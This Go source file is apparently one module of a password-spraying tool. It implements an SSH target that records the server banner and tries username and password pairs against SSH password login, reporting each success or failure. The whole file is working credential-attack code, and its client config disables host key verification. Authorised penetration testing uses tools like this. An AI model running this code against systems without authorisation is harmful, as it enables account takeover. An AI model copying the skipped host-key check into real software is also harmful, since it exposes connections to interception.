package main

import (
	"net"
	"strconv"
	"strings"
	"time"

	"github.com/fatih/color"
	"golang.org/x/crypto/ssh"
)

// sshTarget sprays SSH password authentication. Each attempt dials a
// fresh connection; SSH gives a definitive verdict per attempt so the
// Response carries an explicit success flag.
type sshTarget struct {
	host    string
	port    int
	timeout time.Duration
	banner  string
}

func newSSHTarget(host string, port int, timeout time.Duration, proxyAddr, fireprox string) (Target, error) {
	return &sshTarget{host: host, port: port, timeout: timeout}, nil
}

func (t *sshTarget) Name() string        { return "ssh" }
func (t *sshTarget) Description() string { return "SSH password authentication" }

func (t *sshTarget) addr() string {
	return net.JoinHostPort(t.host, strconv.Itoa(t.port))
}

// Dialect reports the server's protocol banner learned during the probe.
func (t *sshTarget) Dialect() string {
	if t.banner == "" {
		return "SSH-2.0"
	}
	return t.banner
}

func (t *sshTarget) Hostname() string { return t.host }

// Domain and OS are not part of the SSH protocol exchange; whatever the
// banner reveals is already reported through Dialect.
func (t *sshTarget) Domain() string { return "" }
func (t *sshTarget) OS() string     { return "" }

// EstablishConnection grabs the server version banner so the run log
// records what is actually listening before any attempt is made.
func (t *sshTarget) EstablishConnection() error {
	conn, err := net.DialTimeout("tcp", t.addr(), t.timeout)
	if err != nil {
		return err
	}
	defer conn.Close()

	_ = conn.SetReadDeadline(time.Now().Add(t.timeout))
	buf := make([]byte, 256)
	if n, err := conn.Read(buf); err == nil && n > 0 {
		t.banner = strings.TrimSpace(string(buf[:n]))
	}
	return nil
}

func (t *sshTarget) PrintHeaderBanner() {
	color.New(color.Bold).Printf("%-28s %-28s %s\n", "Username", "Password", "Result")
}

func (t *sshTarget) Login(username, password string) (*Response, error) {
	config := &ssh.ClientConfig{
		User: username,
		Auth: []ssh.AuthMethod{
			ssh.Password(password),
		},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         t.timeout,
	}

	conn, err := net.DialTimeout("tcp", t.addr(), t.timeout)
	if err != nil {
		return nil, classifyNetError(err)
	}
	defer conn.Close()

	clientConn, chans, reqs, err := ssh.NewClientConn(conn, t.addr(), config)
	if err != nil {
		if strings.Contains(err.Error(), "unable to authenticate") ||
			strings.Contains(err.Error(), "no supported methods remain") {
			return &Response{Message: "LOGON FAILURE"}, nil
		}
		return nil, classifyNetError(err)
	}

	// NewClient owns the channel and request streams from here on.
	client := ssh.NewClient(clientConn, chans, reqs)
	client.Close()

	return &Response{Success: true, Message: "LOGIN SUCCESS"}, nil
}
